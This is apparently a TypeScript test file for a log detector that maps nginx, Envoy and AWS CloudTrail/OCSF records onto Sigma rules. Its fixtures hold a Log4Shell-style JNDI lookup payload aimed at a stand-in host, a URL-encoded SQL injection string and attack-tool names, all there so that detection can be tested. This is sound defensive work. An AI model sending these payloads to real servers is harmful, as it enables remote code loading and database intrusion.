import { compileRule } from '../../../../detectors/sigma/compile-rule';
import { RuleSet } from '../../../../detectors/sigma/rule-set';
import { mapperOf, type Source } from '../../../../detectors/sources/registry';
import type { UsageEvent } from '../../../../domain/usage-event';
import { OWN_RULES } from '../../../support/own-rules';

function rule(id: string, logsource: object, fields: object, level = 'high'): ReturnType<typeof compileRule> {
  return compileRule({ id, title: id, level, logsource, detection: { selection: fields, condition: 'selection' } });
}

const WEB = RuleSet.of([
  rule('query', { category: 'webserver' }, { 'cs-uri-query|contains': 'secret=hunter2' }),
  rule(
    'names',
    { category: 'webserver' },
    {
      'cs-method': 'GET',
      'cs-uri-stem|endswith': '/.env',
      'cs-user-agent|contains': 'scanner',
      'c-ip|cidr': '192.0.2.0/24',
      'sc-status': 404,
    },
  ),
  rule('other', { product: 'aws', service: 'cloudtrail' }, { 'c-ip|cidr': '0.0.0.0/0' }),
]);

function rulesOf(source: Source, record: unknown, rules: RuleSet): readonly string[] {
  const mapped = mapperOf(source, rules)(record);
  if (mapped.kind !== 'event') throw new Error(JSON.stringify(mapped));
  expect(JSON.stringify(mapped.event)).not.toContain('hunter2');
  return ((mapped.event as UsageEvent).rules ?? []).map(({ title }) => title);
}

const NGINX = {
  msec: '1767700800.123',
  remote_addr: '192.0.2.10',
  remote_user: 'reports',
  request_method: 'GET',
  uri: '/.env',
  request_uri: '/.env?secret=hunter2',
  status: '404',
  http_user_agent: 'a scanner',
};
const ENVOY = {
  start_time: '2026-01-06T12:00:00.123Z',
  remote_user: 'reports',
  method: 'GET',
  path: '/.env?secret=hunter2',
  response_code: 404,
  downstream_remote_address: '192.0.2.10:51234',
  user_agent: 'a scanner',
};

test.each<[Source, object]>([
  ['nginx', NGINX],
  ['access-log', NGINX],
  ['envoy', ENVOY],
  ['access-log', ENVOY],
])('%s: rules for web servers know its fields by Sigma’s names, and the query stays behind', (source, line) => {
  expect(rulesOf(source, line, WEB)).toEqual(['query', 'names']);
});

test.each<[string, object]>([
  ['its arguments', { uri: '/a', request_uri: undefined, args: 'secret=hunter2' }],
  [
    'its request line',
    { uri: undefined, request_uri: undefined, request: 'GET /a?secret=hunter2 HTTP/1.1', request_method: undefined },
  ],
])('nginx: the query is found in %s', (_where, more) => {
  expect(rulesOf('nginx', { ...NGINX, ...more }, WEB)).toContain('query');
});

test('a rule may ask for any field of the line by its name', () => {
  const rules = RuleSet.of([rule('upstream', { category: 'webserver' }, { 'upstream.zone': 'b', host: 'h' })]);

  expect(rulesOf('nginx', { ...NGINX, host: 'h', upstream: [{ zone: 'a' }, { zone: 'b' }] }, rules)).toEqual([
    'upstream',
  ]);
});

test.each<[Source, object]>([
  [
    'nginx',
    {
      http_referer: 'https://app.example/${jndi:ldap://192.0.2.1/hunter2}',
      http_x_api_version: '$%7Bjndi:ldap://192.0.2.1/hunter2}',
      http_cookie: 'sqlmap',
      http_x_forwarded_for: 'sqlmap',
    },
  ],
  [
    'envoy',
    {
      request_headers: {
        'x-api-version': '${jndi:ldap://192.0.2.1/hunter2}',
        cookie: 'sqlmap',
        authorization: 'sqlmap',
      },
    },
  ],
])(
  '%s: payloads in headers are recognised and stay behind, and what may hold a secret is not looked at',
  (source, more) => {
    const line = source === 'nginx' ? { ...NGINX, uri: '/', request_uri: '/' } : { ...ENVOY, path: '/' };

    expect(rulesOf(source, { ...line, http_user_agent: 'x', user_agent: 'x' }, OWN_RULES)).toEqual([]);
    const told = rulesOf(source, { ...line, http_user_agent: 'x', user_agent: 'x', ...more }, OWN_RULES);
    expect(told).toContain('Java is reached into by a request');
    expect(told).not.toContain('The agent is a scanner or an attack tool');
  },
);

test.each<[field: string, value: string]>([
  ['referer', 'http://localhost:3000/'],
  ['referer', 'http://127.0.0.1:8080/orders/7'],
  ['referer', 'https://app.example/search'],
  ['referer', 'https://app.example/docs/package-lock.json'],
  ['referer', "https://app.example/o'reilly/or/1=1"],
  ['referer', 'http://[::1]:3000/server-status'],
  ['origin', 'http://localhost:3000'],
  ['via', 'HTTP/1.1 proxy'],
  ['referer', 'https://app.example/#/orders/(detail:7)'],
  ['referer', 'android-app://com.example.orders/'],
  ['content_type', 'application/json; charset=utf-8'],
  ['content_type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
  ['content_type', 'application/soap+xml; charset=utf-8; action="urn:orders#get"'],
  ['content_type', 'application/vnd.api+json;profile="https://example.com/last-modified"'],
  ['x_api_version', '2026-01-06'],
  ['x_api_version', '2.0; orders-api/1.0'],
])('an ordinary %s is none: %s', (field, value) => {
  const line = { ...NGINX, uri: '/', request_uri: '/', http_user_agent: 'x', [`http_${field}`]: value };

  expect(rulesOf('nginx', line, OWN_RULES)).toEqual([]);
});

const STOPPED = {
  eventID: 'e1',
  eventTime: '2026-01-06T12:00:00Z',
  eventName: 'StopLogging',
  eventSource: 'cloudtrail.amazonaws.com',
  userIdentity: { accessKeyId: 'AKIAMADEUP0000000001' },
};

/** As AWS writes it for API Activity. */
const ocsf = (operation: string, service: string, more: object = {}): object => ({
  class_uid: 6003,
  time: 1767700800000,
  metadata: { version: '1.1.0', uid: 'e1', product: { vendor_name: 'AWS', name: 'CloudTrail' } },
  cloud: { provider: 'AWS', region: 'eu-central-1' },
  api: { operation, service: { name: service } },
  actor: { user: { type: 'IAMUser', credential_uid: 'AKIAMADEUP0000000001' } },
  ...more,
});

const OPEN_PORT = { cidrIp: '0.0.0.0/0' };
const openPort = (data: unknown): object =>
  ocsf('AuthorizeSecurityGroupIngress', 'ec2.amazonaws.com', {
    api: {
      operation: 'AuthorizeSecurityGroupIngress',
      service: { name: 'ec2.amazonaws.com' },
      request: { uid: 'r', data },
    },
  });

test('our own rules speak of CloudTrail', () => {
  expect(rulesOf('cloudtrail', STOPPED, OWN_RULES)).toEqual(['Audit logging is stopped']);
});

test.each<[string, object, string]>([
  ['by its operation', ocsf('StopLogging', 'cloudtrail.amazonaws.com'), 'Audit logging is stopped'],
  ['by its parameters', openPort(OPEN_PORT), 'A port is opened to every address'],
  ['by parameters in a text', openPort(JSON.stringify(OPEN_PORT)), 'A port is opened to every address'],
  [
    'by parameters that were not mapped',
    ocsf('AuthorizeSecurityGroupIngress', 'ec2.amazonaws.com', {
      unmapped: { 'requestParameters.cidrIp': '0.0.0.0/0' },
    }),
    'A port is opened to every address',
  ],
])('and of OCSF from AWS, %s', (_how, record, title) => {
  expect(rulesOf('ocsf', record, OWN_RULES)).toEqual([title]);
});

const AGENTS = [
  'orders-api/1.0',
  'python-requests/2.31.0',
  'aws-sdk-java/2.20.0 Linux/5.10.0 OpenJDK_64-Bit_Server_VM/17.0.1+12 Java/17.0.1 vendor/N_A io/sync http/Apache cfg/retry-mode/legacy',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (compatible; a-bot/2.1; +http://www.example.com/bot.html)',
  'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 Edge/14.14393',
  'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Win64; x64; Trident/6.0; Touch)',
];

test.each(AGENTS)('nothing in the rest of a line makes an ordinary request hostile: %s', (agent) => {
  const request = {
    uri: '/orders/7',
    request_uri: '/orders/7?page=2&sort=name',
    request: 'GET /orders/7?page=2 HTTP/1.1',
  };
  const fields = {
    time_local: '06/Jan/2026:12:00:00 +0000',
    time_iso8601: '2026-01-06T12:00:00+00:00',
    remote_user: "o'brien",
  };
  const named = {
    upstream_host: '127.0.0.1:8080',
    host: 'localhost',
    remote_addr: '127.0.0.1',
    downstream_remote_address: '127.0.0.1:40000',
    http_referer: 'https://www.example.com/search?q=a+b&page=1',
    authority: 'orders.example.com',
    tourniquet_subject: `fp:k1:${'ab'.repeat(32)}`,
  };

  expect(rulesOf('nginx', { ...NGINX, ...request, ...fields, ...named, http_user_agent: agent }, OWN_RULES)).toEqual(
    [],
  );
  expect(rulesOf('envoy', { ...ENVOY, ...named, path: '/orders/7?page=2', user_agent: agent }, OWN_RULES)).toEqual([]);
});

test.each<[Source, object]>([
  ['nginx', { ...NGINX, request_uri: '/items?id=1%2527%20OR%20%271%27=%271' }],
  ['envoy', { ...ENVOY, path: '/items?id=1%2527%20OR%20%271%27=%271' }],
])('%s: our own rules see a request decoded', (source, line) => {
  expect(rulesOf(source, line, OWN_RULES)).toContain('SQL is sent in a request');
});

test('another cloud’s OCSF is no CloudTrail', () => {
  const record = {
    ...ocsf('StopLogging', 'cloudtrail.amazonaws.com'),
    cloud: { provider: 'GCP' },
    metadata: { version: '1.1.0', uid: 'e1' },
  };

  expect(rulesOf('ocsf', record, OWN_RULES)).toEqual([]);
});
